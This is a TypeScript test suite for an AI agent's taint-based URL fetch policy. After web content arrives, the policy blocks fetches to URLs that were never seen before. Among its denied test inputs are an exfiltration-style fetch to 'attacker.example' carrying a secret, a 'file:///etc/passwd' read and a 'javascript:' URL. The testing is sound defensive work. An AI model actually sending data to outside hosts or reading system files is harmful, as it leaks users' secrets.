import { describe, expect, it } from 'vitest';
import { loadBuiltinPolicy } from '../../src/policy/builtin.js';
import { extractUrls } from '../../src/policy/url-extract.js';

const fetchCall = (url: string, step = 2) => ({ tool: 'web_fetch', args: { url }, step });
const searchCall = { tool: 'web_search', args: { query: 'q' }, step: 1 };

describe('taint under the shipped default policy', () => {
  it('lets any public URL through before web content enters the episode', async () => {
    const session = (await loadBuiltinPolicy('default')).startEpisode({
      prompt: 'hi',
      interactive: false,
    });
    expect(session.tainted).toBe(false);
    const d = await session.decide(fetchCall('https://anything.example/'));
    expect(d).toMatchObject({ decision: 'allow', rule: 'fetch-public-web', tainted: false });
  });

  it('is set by the output of a tainting tool and not by other tools', async () => {
    const session = (await loadBuiltinPolicy('default')).startEpisode({
      prompt: '',
      interactive: false,
    });
    session.record(
      { tool: 'python', args: {}, step: 1 },
      {},
      false,
      'https://printed-by-code.example/',
    );
    expect(session.tainted).toBe(false);
    session.record(searchCall, {}, true, 'results');
    expect(session.tainted).toBe(true);
  });

  it('then allows only URLs that appeared in search or fetch output or in the prompt', async () => {
    const session = (await loadBuiltinPolicy('default')).startEpisode({
      prompt: 'Summarize https://user.example/report.',
      interactive: false,
    });
    session.record(
      { tool: 'python', args: {}, step: 1 },
      {},
      false,
      'https://printed-by-code.example/',
    );
    session.record(
      searchCall,
      { fetched_bytes: 0 },
      true,
      '1. [Result](https://Found.example/page) — see also https://found.example/other, and more.',
    );

    const fromSearch = await session.decide(fetchCall('https://found.example/page'));
    expect(fromSearch).toMatchObject({ decision: 'allow', tainted: true });
    expect((await session.decide(fetchCall('https://found.example/other'))).decision).toBe('allow');
    expect((await session.decide(fetchCall('https://user.example/report'))).decision).toBe('allow');

    const invented = await session.decide(fetchCall('https://attacker.example/?d=secret'));
    expect(invented).toMatchObject({
      decision: 'deny',
      rule: 'fetch-only-seen-urls-after-taint',
      tainted: true,
    });
    expect(invented.reason).toContain('may only open URLs that appeared in search results');
    expect((await session.decide(fetchCall('https://printed-by-code.example/'))).decision).toBe(
      'deny',
    );
    expect((await session.decide(fetchCall('https://found.example/page?extra=1'))).decision).toBe(
      'deny',
    );
  });

  it('lets corpus:// results of the local search back end be opened after taint', async () => {
    const session = (await loadBuiltinPolicy('default')).startEpisode({
      prompt: '',
      interactive: false,
    });
    session.record(
      searchCall,
      {},
      true,
      '1. Paris — corpus://wiki/Paris.md\n2. corpus://wiki/Lyon%20city.md',
    );
    expect(await session.decide(fetchCall('corpus://wiki/Paris.md'))).toMatchObject({
      decision: 'allow',
      rule: 'fetch-local-corpus',
    });
    expect((await session.decide(fetchCall('corpus://wiki/Lyon%20city.md'))).decision).toBe(
      'allow',
    );
    expect((await session.decide(fetchCall('corpus://wiki/Secret.md'))).decision).toBe('deny');
  });

  it('adds the links of fetched pages to what may be fetched next', async () => {
    const session = (await loadBuiltinPolicy('default')).startEpisode({
      prompt: '',
      interactive: false,
    });
    session.record(searchCall, {}, true, 'https://a.example/');
    expect((await session.decide(fetchCall('https://b.example/'))).decision).toBe('deny');
    session.record(
      fetchCall('https://a.example/'),
      { fetched_bytes: 10 },
      true,
      'Next: <https://b.example/>',
    );
    expect((await session.decide(fetchCall('https://b.example/'))).decision).toBe('allow');
  });
});

describe('the shipped open policy', () => {
  it('opens http(s) and corpus:// URLs but no other scheme', async () => {
    const session = (await loadBuiltinPolicy('open')).startEpisode({
      prompt: '',
      interactive: false,
    });
    expect((await session.decide(fetchCall('corpus://wiki/Paris.md'))).decision).toBe('allow');
    expect((await session.decide(fetchCall('https://a.example/'))).decision).toBe('allow');
    expect(await session.decide(fetchCall('file:///etc/passwd'))).toMatchObject({
      decision: 'deny',
      rule: 'fetch-http-only',
    });
  });
});

describe('taint under the shipped open policy', () => {
  it('takes the network away from code once web content is in the episode', async () => {
    const session = (await loadBuiltinPolicy('open')).startEpisode({
      prompt: '',
      interactive: false,
    });
    const code = { tool: 'python', args: { code: 'print(1)' }, step: 1 };
    expect((await session.decide(code)).clamps?.network).toBe(true);
    session.record(searchCall, {}, true, '');
    const after = await session.decide(code);
    expect(after).toMatchObject({ decision: 'allow', rule: 'code-offline-after-taint' });
    expect(after.clamps?.network).toBe(false);
  });
});

describe('extracting URLs', () => {
  it('finds URLs in prose, Markdown and JSON and normalizes them', () => {
    const text =
      'See [docs](https://Docs.Example.org:443/a_(b)) and https://x.org/path?q=1#frag. ' +
      '{"url":"http://y.org/z"} (https://w.org/v), <https://v.org/>';
    expect(extractUrls(text)).toEqual([
      'https://docs.example.org/a_(b)',
      'https://x.org/path?q=1',
      'http://y.org/z',
      'https://w.org/v',
      'https://v.org/',
    ]);
  });

  it('ignores schemes other than http, https and corpus', () => {
    expect(extractUrls('file:///etc/passwd javascript:alert(1) ftp://a.org/')).toEqual([]);
    expect(extractUrls('see corpus://docs/a.md.')).toEqual(['corpus://docs/a.md']);
  });
});
